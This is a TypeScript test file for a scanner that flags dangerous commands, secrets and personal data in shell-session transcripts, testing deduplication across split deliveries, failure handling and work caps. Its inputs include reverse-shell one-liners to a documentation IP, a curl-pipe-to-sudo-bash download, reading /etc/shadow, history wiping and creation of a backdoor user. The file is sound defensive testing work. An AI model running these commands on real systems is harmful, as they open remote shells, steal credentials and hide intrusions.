import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { MAX_LINE_VALUES } from '#shared/detect/limits';
import { createLocalPiiScanner } from '#shared/detect/pii-local';
import { secretDetector } from '#shared/detect/secrets';
import { stableId } from '#shared/ids';
import { DEFAULT_CONFIG, parseConfig } from '#shared/model/config';
import type { Finding } from '#shared/model/finding';
import { createCommandDetector } from '#shared/transcript/commands';
import { readTranscriptFile } from '#shared/transcript/read';
import {
  MAX_DELIVERY_DETECTIONS,
  PII_UNAVAILABLE_RULE,
  scanTranscript,
  WORK_CAPPED_RULE,
} from '#shared/transcript/scan';
import type { Detection, Detector, PiiScanner, TranscriptChunk } from '#shared/transcript/types';
import { type CarriedContext, carried, scan } from './carried';
import { scanShape, shapeFiles } from './corpus';

const PROMPT = '[ssm-user@ip-10-0-1-23 ~]$ ';
const commands = createCommandDetector();

function context(extra: Partial<Omit<CarriedContext, 'carries'>> = {}): CarriedContext {
  return carried({ config: DEFAULT_CONFIG, pii: undefined, ...extra });
}

let nextId = 0;
function chunk(lines: string[][], sessionId = 'alice-0123456789abcdef0'): TranscriptChunk {
  return {
    sessionId,
    origin: 'test',
    events: lines.map((l) => ({ time: '2026-11-22T02:00:00Z', text: l.join('\n'), id: String(++nextId) })),
    owner: { arn: 'arn:aws:sts::111122223333:assumed-role/Ops/alice', target: 'i-0abc', region: 'eu-west-1' },
  };
}

/** A stateless detector for a made-up token, to test the scanner on its own. */
const tokenDetector: Detector = {
  name: 'token',
  scan(lines) {
    const out: Detection[] = [];
    for (const l of lines) {
      for (const m of l.text.matchAll(/TOKEN_[A-Z]{20}/g)) {
        out.push({
          ruleId: 'secret-test-token',
          category: 'secret',
          kind: 'TEST_TOKEN',
          severity: 'HIGH',
          line: l.n,
          value: m[0],
        });
      }
    }
    return out;
  },
};

function byRule(findings: Finding[], ruleId: string): Finding | undefined {
  return findings.find((f) => f.ruleId === ruleId);
}

describe('scanTranscript', () => {
  it('reports a ^C-cancelled command one severity lower, with the reason', async () => {
    const r = await scan(chunk([[`${PROMPT}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C`]]), context(), [
      commands,
    ]);
    const f = byRule(r.findings, 'cmd-reverse-shell')!;
    expect(f.severity).toBe('HIGH');
    expect(f.reasons.join(' ')).toMatch(/cancelled/);
    expect(f.evidence[0]).toMatchObject({ kind: 'REVERSE_SHELL', count: 1, lines: [1] });
  });

  it('gives deterministic ids per session, rule and kind, and fills the session fields', async () => {
    const c = chunk([[`${PROMPT}history -c`, `${PROMPT}unset HISTFILE`]]);
    const session = {
      sessionId: c.sessionId,
      startTime: '2026-11-22T01:59:00Z',
      account: '111122223333',
      region: 'eu-west-1',
      target: 'i-0abc',
      principal: { arn: 'arn:aws:iam::111122223333:user/alice', type: 'IAMUser', name: 'alice' },
      sourceIp: '198.51.100.7',
      sessionKind: 'shell',
    };
    const a = await scan(c, context({ session }), [commands]);
    const b = await scan(c, context({ session }), [commands]);
    expect(a.findings).toEqual(b.findings);
    const f = a.findings[0]!;
    expect(a.findings).toHaveLength(1);
    expect(f.id).toBe(stableId(c.sessionId, 'cmd-history-tampering', 'HISTORY_TAMPERING'));
    expect(f).toMatchObject({
      count: 2,
      source: 'transcript',
      principal: session.principal,
      sourceIp: '198.51.100.7',
      sessionKind: 'shell',
      account: '111122223333',
      time: '2026-11-22T02:00:00Z',
    });
  });

  it('takes the principal from the log owner when no session record is known', async () => {
    const r = await scan(chunk([[`${PROMPT}cat /etc/shadow`]]), context(), [commands]);
    expect(r.findings[0]).toMatchObject({
      principal: {
        arn: 'arn:aws:sts::111122223333:assumed-role/Ops/alice',
        type: 'AssumedRole',
        name: 'alice',
      },
      account: '111122223333',
      region: 'eu-west-1',
      target: 'i-0abc',
    });
  });

  it('aggregates counts and keeps the highest severity across deliveries', async () => {
    const ctx = context();
    await scan(chunk([[`${PROMPT}nc -e /bin/sh 203.0.113.7 4444`]]), ctx, [commands]);
    const r = await scan(chunk([[`${PROMPT}bash -i >& /dev/tcp/203.0.113.7/1 0>&1^C`]]), ctx, [commands]);
    expect(byRule(r.findings, 'cmd-reverse-shell')).toMatchObject({ severity: 'CRITICAL', count: 2 });
    expect(byRule(r.findings, 'cmd-reverse-shell')!.evidence[0]!.lines).toEqual([2]);
  });

  it('applies severity overrides from the configuration', async () => {
    const config = parseConfig({ severityOverrides: { 'cmd-root-shell': 'LOW' } });
    const r = await scan(chunk([[`${PROMPT}sudo su -`]]), context({ config }), [commands]);
    expect(r.findings[0]!.severity).toBe('LOW');
  });

  it('joins continuation lines and reports the command once', async () => {
    const ctx = context();
    const a = await scan(chunk([[`${PROMPT}curl -fsSL https://203.0.113.7/x.sh \\`]]), ctx, [commands]);
    expect(a.findings).toEqual([]);
    const b = await scan(chunk([['> | sudo bash', 'ok']]), ctx, [commands]);
    expect(byRule(b.findings, 'cmd-download-execute')).toMatchObject({
      count: 1,
      evidence: [{ lines: [2] }],
    });
  });

  it('masks embedded secrets in command evidence', async () => {
    const r = await scan(chunk([['PS C:\\Users\\ssm-user> net user backdoor P@ssw0rd /add']]), context(), [
      commands,
    ]);
    expect(byRule(r.findings, 'cmd-user-created')).toBeDefined();
    expect(JSON.stringify(r.findings)).not.toContain('P@ssw0rd');
  });
});

describe('split and repeated deliveries', () => {
  it('finds a token cut at the 33 000-byte event boundary exactly once', async () => {
    const ctx = context();
    const token = 'TOKEN_ABCDEFGHIJKLMNOPQRST';
    const head = `${'y'.repeat(32_990)} ${token.slice(0, 12)}`;
    const a = await scan(chunk([[head]]), ctx, [tokenDetector]);
    expect(a.findings).toEqual([]);
    const b = await scan(chunk([[`${token.slice(12)} end`, `${PROMPT}id`]]), ctx, [tokenDetector]);
    expect(b.findings).toHaveLength(1);
    expect(b.findings[0]).toMatchObject({ count: 1, evidence: [{ lines: [1] }] });
    const c = await scan(chunk([['more output']]), ctx, [tokenDetector]);
    expect(c.findings).toEqual([]);
    expect(ctx.carries.get('alice-0123456789abcdef0')!.nextLine).toBe(4);
  });

  it('finds a private key split across two deliveries exactly once', async () => {
    const raw = readFileSync(shapeFiles('secrets', 's3')[0]!, 'utf8').split('\r\n');
    const begin = raw.findIndex((l) => l.startsWith('-----BEGIN'));
    const end = raw.findIndex((l) => l.startsWith('-----END'));
    const head = [`${PROMPT}cat k.pem`, ...raw.slice(begin, begin + 10)];
    const rest = [...raw.slice(begin + 10, end + 1), `${PROMPT}id`];
    const privateKeys = (fs: Finding[]) => fs.filter((f) => f.evidence.some((e) => e.kind === 'PRIVATE_KEY'));

    const whole = privateKeys(
      (await scan(chunk([[...head, ...rest]]), context(), [secretDetector])).findings,
    );
    expect(whole).toHaveLength(1);

    const ctx = context();
    const first = await scan(chunk([head]), ctx, [secretDetector]);
    const second = await scan(chunk([rest]), ctx, [secretDetector]);
    const split = privateKeys([...first.findings, ...second.findings]);
    expect(new Set(split.map((k) => k.id))).toEqual(new Set([whole[0]!.id]));
    expect(split.at(-1)!.count).toBe(whole[0]!.count);
    expect(JSON.stringify(split)).not.toContain(raw[begin + 1]!.slice(0, 20));
  });

  it('skips a re-delivered delivery (same log event ids)', async () => {
    const ctx = context();
    const c = chunk([[`${PROMPT}history -c`]]);
    expect((await scan(c, ctx, [commands])).findings).toHaveLength(1);
    expect(await scan(c, ctx, [commands])).toEqual({ findings: [], errors: [] });
    const c2 = chunk([[`${PROMPT}history -c`]]);
    expect((await scan(c2, ctx, [commands])).findings[0]!.count).toBe(2);
  });

  it('counts the same after every subscription delivery arrives twice', async () => {
    const once = await scanShape('attacker', 'subscription', [commands]);
    const ctx = context();
    const byId = new Map<string, Finding>();
    const files = shapeFiles('attacker', 'subscription');
    for (const file of [...files, ...files.slice(3, 9), files[0]!]) {
      for (const c of readTranscriptFile(readFileSync(file), file).chunks) {
        for (const f of (await scan(c, ctx, [commands])).findings) byId.set(f.id, f);
      }
    }
    const counts = (fs: Iterable<Finding>) => [...fs].map((f) => `${f.ruleId}=${f.count}`).sort();
    expect(counts(byId.values())).toEqual(counts(once.findings));
  });
});

describe('failures', () => {
  const failingPii: PiiScanner = {
    name: 'comprehend',
    scan: () => Promise.reject(new Error('ThrottlingException after 5 retries')),
  };

  it('PII outage: local findings still reported, scan-error added, retry asked, carry-over not advanced', async () => {
    const ctx = context({ pii: failingPii });
    const c = chunk([[`${PROMPT}sudo su -`, 'TOKEN_ABCDEFGHIJKLMNOPQRST']]);
    const r = await scan(c, ctx, [commands, tokenDetector]);
    expect(r.retry).toBe(true);
    expect(byRule(r.findings, 'cmd-root-shell')).toBeDefined();
    expect(byRule(r.findings, 'secret-test-token')).toBeDefined();
    expect(byRule(r.findings, PII_UNAVAILABLE_RULE)).toMatchObject({
      category: 'scan-error',
      severity: 'HIGH',
    });
    expect(r.errors[0]!.message).toMatch(/personal-data scan failed/);
    expect(r.carry).toBeUndefined();
    expect(ctx.carries.get(c.sessionId)).toBeUndefined();

    // The retried delivery, now with a working scanner, gives the same findings once.
    const ok: PiiScanner = { name: 'comprehend', scan: async () => [] };
    const again = await scan(c, { ...ctx, pii: ok }, [commands, tokenDetector]);
    expect(again.retry).toBeUndefined();
    expect(again.findings.map((f) => [f.id, f.count])).toEqual(
      r.findings.filter((f) => f.ruleId !== PII_UNAVAILABLE_RULE).map((f) => [f.id, f.count]),
    );
  });

  it('a PII failure no retry can fix is reported once per session and the delivery is not retried', async () => {
    const denied: PiiScanner = {
      name: 'comprehend',
      scan: () => Promise.reject(Object.assign(new Error('AccessDeniedException'), { retryable: false })),
    };
    const ctx = context({ pii: denied });
    const c = chunk([[`${PROMPT}sudo su -`]]);
    const r = await scan(c, ctx, [commands]);
    expect(r.retry).toBeUndefined();
    expect(byRule(r.findings, PII_UNAVAILABLE_RULE)?.evidence[0]?.excerpt).toMatch(/not retryable/);
    expect(byRule(r.findings, 'cmd-root-shell')).toBeDefined();
    expect(ctx.carries.get(c.sessionId)).toBeDefined();
  });

  it('a throwing detector is an error item, never an exception', async () => {
    const broken: Detector = {
      name: 'broken',
      scan: () => {
        throw new Error('boom');
      },
    };
    const r = await scan(chunk([[`${PROMPT}visudo`]]), context(), [broken, commands]);
    expect(byRule(r.findings, 'cmd-sudoers-tampering')).toBeDefined();
    expect(r.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(/detector broken failed: Error: boom/),
    ]);
    expect(r.retry).toBeUndefined();
    expect(r.carry).toBeDefined();
  });
});

describe('a pure scan', () => {
  it('runs with no store at all: the prior carry-over in, the next one out, the prior one unchanged', async () => {
    const ctx = { config: DEFAULT_CONFIG, pii: createLocalPiiScanner(DEFAULT_CONFIG) };
    const first = await scanTranscript(chunk([[`${PROMPT}nc -e /bin/sh 203.0.113.7 4444`]]), ctx, [commands]);
    expect(first.carry).toBeDefined();
    const prior = structuredClone(first.carry!);
    const next = chunk([[`${PROMPT}history -c`, 'mail jane.doe@example.com']]);
    const a = await scanTranscript(next, { ...ctx, carry: first.carry }, [commands, secretDetector]);
    expect(first.carry).toEqual(prior);
    expect(a.carry!.nextLine).toBe(prior.nextLine + 2);
    // The same inputs give the same outputs: nothing was kept anywhere else.
    const b = await scanTranscript(next, { ...ctx, carry: first.carry }, [commands, secretDetector]);
    expect(b).toEqual(a);
    expect(a.findings.map((f) => f.ruleId).sort()).toEqual(['cmd-history-tampering', 'pii-email']);
  });

  it('returns no carry-over for a delivery seen before, so nothing is saved', async () => {
    const c = chunk([[`${PROMPT}id`]]);
    const first = await scanTranscript(c, { config: DEFAULT_CONFIG, pii: undefined }, [commands]);
    const again = await scanTranscript(c, { config: DEFAULT_CONFIG, pii: undefined, carry: first.carry }, [
      commands,
    ]);
    expect(again).toEqual({ findings: [], errors: [] });
  });
});

describe('work caps', () => {
  it('folds a delivery of 300 000 detections without spreading them, counts all, keeps bounded evidence', async () => {
    // A detector that reports far more than a call's argument list can hold (the 20 MB log of issue 8).
    const flood: Detector = {
      name: 'flood',
      scan(lines) {
        const out: Detection[] = [];
        for (const l of lines)
          for (let i = 0; i < 300_000; i++)
            out.push({
              ruleId: 'secret-test-token',
              category: 'secret',
              kind: 'TEST_TOKEN',
              severity: 'HIGH',
              line: l.n,
              value: `TOKEN_${i}`,
            });
        return out;
      },
    };
    const r = await scan({ ...chunk([['x']]), final: true }, context(), [flood]);
    expect(r.errors).toEqual([]);
    const tokens = byRule(r.findings, 'secret-test-token')!;
    expect(tokens.count).toBe(300_000);
    expect(tokens.evidence.length).toBeLessThanOrEqual(5);
    const capped = byRule(r.findings, WORK_CAPPED_RULE)!;
    expect(capped).toMatchObject({
      category: 'scan-error',
      severity: 'LOW',
      count: 300_000 - MAX_DELIVERY_DETECTIONS,
    });
    expect(capped.evidence).toEqual([
      expect.objectContaining({
        kind: 'DELIVERY_DETECTIONS_CAPPED',
        count: 300_000 - MAX_DELIVERY_DETECTIONS,
      }),
    ]);
    expect(JSON.stringify(capped)).not.toContain('TOKEN_');
  });

  it('counts values past the per-line cap into their finding and reports them with their line', async () => {
    const emails = Array.from({ length: MAX_LINE_VALUES + 100 }, (_, i) => `user${i}@example.org`).join(' ');
    const ctx = context({ pii: createLocalPiiScanner(DEFAULT_CONFIG) });
    const r = await scan({ ...chunk([['first line', emails]]), final: true }, ctx, [secretDetector]);
    expect(byRule(r.findings, 'pii-email')?.count).toBe(MAX_LINE_VALUES + 100);
    expect(byRule(r.findings, WORK_CAPPED_RULE)?.evidence).toEqual([
      expect.objectContaining({ kind: 'LINE_VALUES_CAPPED', count: 100, lines: [2] }),
    ]);
  });

  it('adds capped counts up across deliveries, and reports nothing below the caps', async () => {
    const ctx = context({ pii: createLocalPiiScanner(DEFAULT_CONFIG) });
    const line = Array.from({ length: MAX_LINE_VALUES + 10 }, (_, i) => `u${i}@example.org`).join(' ');
    await scan(chunk([[line]]), ctx, []);
    const second = await scan(chunk([[line.replace(/u(\d+)@/g, 'v$1@')]]), ctx, []);
    expect(byRule(second.findings, WORK_CAPPED_RULE)?.count).toBe(20);
    const quiet = await scan(chunk([['a@example.org b@example.org']], 'bob-0123456789abcdef0'), ctx, []);
    expect(byRule(quiet.findings, WORK_CAPPED_RULE)).toBeUndefined();
  });

  it('finds the same items whatever the batch size: one delivery split into many detector calls', async () => {
    // More lines than one batch holds: detectors run several times in one delivery.
    const lines = Array.from({ length: 40_000 }, (_, i) =>
      i % 997 === 0 ? `echo AKIA${'QRSTUVWXYZ234567'.slice(0, 16)} n${i}` : `row ${i}`,
    );
    const r = await scan({ ...chunk([lines]), final: true }, context(), [secretDetector]);
    expect(byRule(r.findings, 'secret-aws-access-key')?.count).toBe(Math.ceil(40_000 / 997));
  });
});

describe('a command line longer than the carry-over bound', () => {
  /** One command line of `pad` characters then `end`, cut into 32 000-byte events, one delivery each. */
  async function deliver(prompt: string, pad: number, end: string): Promise<Finding[]> {
    const text = `${prompt}${'a'.repeat(pad)}${end}\n`;
    const ctx = context();
    const detectors = [createCommandDetector()];
    const found = new Map<string, Finding>();
    const pieces: string[] = [];
    for (let at = 0; at < text.length; at += 32_000) pieces.push(text.slice(at, at + 32_000));
    for (const [i, piece] of pieces.entries()) {
      const r = await scan(
        {
          sessionId: 'long-0123456789abcdef0',
          origin: 't',
          events: [{ id: `e${i}`, time: '', text: piece }],
        },
        ctx,
        detectors,
      );
      for (const f of r.findings) found.set(f.id, f);
    }
    return [...found.values()];
  }

  it('is scanned in pieces and its end is still read as the same command, reported once', async () => {
    const findings = await deliver('sh-5.2$ ', 300_000, ' ; nc -e /bin/sh 203.0.113.9 4444');
    expect(findings.map((f) => [f.ruleId, f.count ?? 1])).toEqual([['cmd-reverse-shell', 1]]);
  });

  it('keeps output as output: a long line without a prompt starts no command', async () => {
    expect(await deliver('', 300_000, ' ; nc -e /bin/sh 203.0.113.9 4444')).toEqual([]);
  });
});
